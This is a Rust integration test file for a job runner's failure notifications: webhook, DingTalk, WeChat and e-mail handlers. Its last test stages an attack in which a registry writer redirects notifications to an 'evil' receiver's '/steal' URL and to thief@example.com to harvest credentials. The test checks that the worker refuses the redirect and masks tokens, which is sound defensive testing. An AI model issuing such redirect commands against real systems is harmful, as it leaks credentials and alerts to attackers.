//! Error handlers end to end: a real `ejctl run` whose items fail notifies real local receivers
//! (HTTP for `WEBHOOK`, `DINGTALK` and `WECHAT`, SMTP for `EMAIL`) once per failed item, in
//! ElasticJob's formats; a receiver that hangs or is down does not delay the next fire; a
//! registry writer cannot redirect notifications; and mail needs TLS unless the job file says
//! otherwise.

use crate::support::receiver::{Answer, HttpReceiver, SmtpReceiver};
use crate::support::worker::{Worker, failing_script};
use crate::support::{ZkServer, ejctl, eventually};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_handler_notifies_its_receiver_once_per_failed_item() {
    let server = ZkServer::start();
    let http = HttpReceiver::start(Answer::Json(200, r#"{"errcode":0,"errmsg":"ok"}"#.into())).await;
    let smtp = SmtpReceiver::start().await;
    let dir = tempfile::tempdir().unwrap();
    let script = failing_script(dir.path(), &dir.path().join("starts"));
    let url = &http.url;
    let cmd = script.display();
    let jobs = format!(
        "[[job]]\nname = \"hook\"\ncron = \"*/2 * * * * ?\"\nsharding_total_count = 2\ncommand = \"{cmd}\"\n\
         job_error_handler_type = \"WEBHOOK\"\nprops = {{ \"webhook.url\" = \"{url}/hook\" }}\n\n\
         [[job]]\nname = \"ding\"\ncron = \"*/2 * * * * ?\"\nsharding_total_count = 1\ncommand = \"{cmd}\"\n\
         job_error_handler_type = \"dingtalk\"\nprops = {{ \"dingtalk.webhook\" = \"{url}/ding?access_token=t\", \
         \"dingtalk.keyword\" = \"[ejctl] \", \"dingtalk.secret\" = \"SEC1\" }}\n\n\
         [[job]]\nname = \"wechat\"\ncron = \"*/2 * * * * ?\"\nsharding_total_count = 1\ncommand = \"{cmd}\"\n\
         job_error_handler_type = \"WECHAT\"\nprops = {{ \"wechat.webhook\" = \"{url}/wechat\" }}\n\n\
         [[job]]\nname = \"mail\"\ncron = \"*/2 * * * * ?\"\nsharding_total_count = 1\ncommand = \"{cmd}\"\n\
         job_error_handler_type = \"EMAIL\"\nprops = {{ \"email.host\" = \"127.0.0.1\", \"email.port\" = \"{}\", \
         \"email.username\" = \"ops\", \"email.password\" = \"secret\", \"email.from\" = \"ejctl@example.com\", \
         \"email.to\" = \"a@example.com,b@example.com\", \"email.cc\" = \"c@example.com\", \"email.useSsl\" = \"false\", \
         \"ejctl.email.plaintext\" = \"true\" }}\n",
        smtp.port
    );
    let mut worker = Worker::start(&server, dir, &jobs);
    let of = |prefix: &str| {
        http.requests().into_iter().filter(|r| r.line.starts_with(&format!("POST {prefix}"))).collect::<Vec<_>>()
    };
    eventually(60, "every receiver to be notified", async || {
        worker.check_alive();
        let hook = of("/hook");
        hook.iter().any(|r| r.body.contains(r#""item":0"#))
            && hook.iter().any(|r| r.body.contains(r#""item":1"#))
            && !of("/ding").is_empty()
            && !of("/wechat").is_empty()
            && !smtp.mails().is_empty()
    })
    .await;
    let log = worker.log();

    // WEBHOOK: the documented JSON body, one request per failed item.
    let hook: serde_json::Value = serde_json::from_str(&of("/hook")[0].body).unwrap();
    let text = "Job 'hook' exception occur in job processing, caused by exit code 3: boom\nboom\n";
    assert_eq!(hook["text"], text, "{hook}");
    assert_eq!(hook["content"]["text"], text);
    assert_eq!(hook["msg_type"], "text");
    assert_eq!(hook["job"], "hook");
    assert_eq!(hook["exit_code"], 3);
    // A cron fire; on a loaded machine a fire due while the last run was still ending runs
    // as a misfire, which fails the same way.
    assert!(matches!(hook["source"].as_str(), Some("cron" | "misfire")), "{hook}");
    assert!(hook["instance"].as_str().unwrap().starts_with("127.0.0.1@-@"), "{hook}");
    assert!(of("/hook")[0].headers.contains(&("content-type".into(), "application/json".into())));

    // DINGTALK: keyword first, Gson's escaping, the signed URL.
    let ding = &of("/ding")[0];
    assert!(ding.line.starts_with("POST /ding?access_token=t&timestamp="), "{}", ding.line);
    assert!(ding.line.contains("&sign="), "{}", ding.line);
    assert!(
        ding.body.starts_with(r#"{"msgtype":"text","text":{"content":"[ejctl] Job \u0027ding\u0027 exception occur in job processing, caused by "#),
        "{}",
        ding.body
    );
    assert!(ding.headers.contains(&("content-encoding".into(), "UTF-8".into())));

    // WECHAT: the same body without keyword.
    let wechat = &of("/wechat")[0];
    assert!(
        wechat.body.starts_with(r#"{"msgtype":"text","text":{"content":"Job \u0027wechat\u0027 exception"#),
        "{}",
        wechat.body
    );

    // EMAIL: authenticated, to every recipient, subject and HTML part as ElasticJob sends them.
    let mail = &smtp.mails()[0];
    assert_eq!(mail.auth, ["\0ops\0secret"], "{mail:?}");
    assert!(mail.from.contains("ejctl@example.com"), "{mail:?}");
    assert_eq!(mail.to.len(), 3, "to and cc: {mail:?}");
    assert!(mail.data.contains("Subject: ElasticJob error message"), "{}", mail.data);
    assert!(mail.data.contains("text/html; charset=utf-8"), "{}", mail.data);
    assert!(mail.data.contains("Job 'mail' exception occur in job processing, caused by"), "{}", mail.data);
    assert!(log.contains("failure notification sent"), "{log}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hanging_or_absent_receiver_does_not_delay_the_next_fire() {
    let server = ZkServer::start();
    let hang = HttpReceiver::start(Answer::Hang).await;
    let absent = format!("http://127.0.0.1:{}/down", crate::support::zk::free_port());
    let dir = tempfile::tempdir().unwrap();
    let record = dir.path().join("starts");
    let script = failing_script(dir.path(), &record);
    let cmd = script.display();
    let jobs = format!(
        "[[job]]\nname = \"slow\"\ncron = \"* * * * * ?\"\nsharding_total_count = 2\ncommand = \"{cmd} slow\"\n\
         job_error_handler_type = \"WEBHOOK\"\nprops = {{ \"webhook.url\" = \"{}/hang\", \
         \"webhook.readTimeoutMilliseconds\" = \"600000\" }}\n\n\
         [[job]]\nname = \"down\"\ncron = \"* * * * * ?\"\nsharding_total_count = 1\ncommand = \"{cmd} down\"\n\
         job_error_handler_type = \"WEBHOOK\"\nprops = {{ \"webhook.url\" = \"{absent}\" }}\n",
        hang.url
    );
    let mut worker = Worker::start(&server, dir, &jobs);
    let starts = || -> Vec<i64> {
        let mut v: Vec<i64> = std::fs::read_to_string(&record)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| l.trim().parse().ok())
            .collect();
        v.sort_unstable();
        v
    };
    eventually(60, "the hanging receiver to hold a notification", async || {
        worker.check_alive();
        !hang.requests().is_empty()
    })
    .await;
    let before = starts().len();
    // 3 items a second; 8 more seconds of fires.
    eventually(60, "fires to go on while the receiver hangs", async || {
        worker.check_alive();
        starts().len() >= before + 24
    })
    .await;
    // No gap between consecutive starts (of either job) longer than a generous 4 s.
    let starts = starts();
    let tail = &starts[before.saturating_sub(1)..];
    let gap = tail.windows(2).map(|w| w[1] - w[0]).max().unwrap_or(0);
    assert!(gap < 4000, "a fire waited for a notification: {gap} ms between starts");
    let log = worker.log();
    assert!(log.contains("failure notification failed; retrying"), "the absent receiver is retried: {log}");
}

/// A registry writer points the error handler at its own receiver and switches it to e-mail (to
/// collect the credentials): the worker refuses both, keeps notifying its job file's receiver,
/// logs and counts the refusal with the URLs' tokens masked. And a job file's `EMAIL` with
/// `useSsl = false` does not send the credentials to a server without STARTTLS.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_registry_writer_cannot_redirect_notifications_and_mail_needs_tls() {
    let server = ZkServer::start();
    let mine = HttpReceiver::start(Answer::Json(200, "{}".into())).await;
    let evil = HttpReceiver::start(Answer::Json(200, "{}".into())).await;
    let smtp = SmtpReceiver::start().await;
    let dir = tempfile::tempdir().unwrap();
    let script = failing_script(dir.path(), &dir.path().join("starts"));
    let cmd = script.display();
    let jobs = format!(
        "[[job]]\nname = \"leak\"\ncron = \"*/2 * * * * ?\"\nsharding_total_count = 1\ncommand = \"{cmd}\"\n\
         job_error_handler_type = \"WEBHOOK\"\nprops = {{ \"webhook.url\" = \"{}/hook?token=mine-secret\" }}\n\n\
         [[job]]\nname = \"mail\"\ncron = \"*/2 * * * * ?\"\nsharding_total_count = 1\ncommand = \"{cmd}\"\n\
         job_error_handler_type = \"EMAIL\"\nprops = {{ \"email.host\" = \"127.0.0.1\", \"email.port\" = \"{}\", \
         \"email.username\" = \"ops\", \"email.password\" = \"secret\", \"email.from\" = \"ejctl@example.com\", \
         \"email.to\" = \"a@example.com\", \"email.useSsl\" = \"false\" }}\n",
        mine.url, smtp.port
    );
    let mut worker = Worker::start(&server, dir, &jobs);
    eventually(60, "the job file's receiver to be notified", async || {
        worker.check_alive();
        !mine.requests().is_empty()
    })
    .await;

    // The registry writer's change: `config set` warns that workers refuse it.
    let set = ejctl()
        .args(["--zk", &server.connect_string(), "--namespace", &worker.ns, "config", "set", "leak"])
        .arg("job_error_handler_type=EMAIL")
        .arg(format!("props.webhook.url={}/steal?token=evil-secret", evil.url))
        .args(["props.email.host=127.0.0.1", &format!("props.email.port={}", smtp.port)])
        .args(["props.email.username=u", "props.email.password=p", "props.email.from=a@example.com"])
        .args(["props.email.to=thief@example.com", "props.email.useSsl=false", "props.ejctl.email.plaintext=true"])
        .assert()
        .success();
    let err = String::from_utf8_lossy(&set.get_output().stderr).into_owned();
    assert!(err.contains("allow_registry_error_handler"), "{err}");
    let before = mine.requests().len();
    eventually(60, "refused notifications to the job file's receiver", async || {
        worker.check_alive();
        worker.log().matches("refused the registry's error handler").count() >= 2 && mine.requests().len() >= before + 2
    })
    .await;
    assert!(evil.requests().is_empty(), "the registry's receiver was notified");
    let log = worker.log();
    let refusal = log.lines().find(|l| l.contains("refused the registry's error handler")).unwrap();
    assert!(refusal.contains("jobErrorHandlerType") && refusal.contains("allow_registry_error_handler"), "{refusal}");
    assert!(refusal.contains("token=****"), "{refusal}");
    assert!(!log.contains("mine-secret") && !log.contains("evil-secret"), "a token in the log: {log}");

    // The job file's mail without TLS: no credentials leave, the failure is logged.
    eventually(60, "the mail to fail", async || {
        worker.check_alive();
        worker
            .log()
            .lines()
            .any(|l| l.contains("mail") && l.contains("failure notification") && !l.contains("notification sent"))
            && worker.log().contains("TLS")
    })
    .await;
    assert!(smtp.auths().is_empty() && smtp.mails().is_empty(), "credentials sent in clear: {:?}", smtp.auths());
}
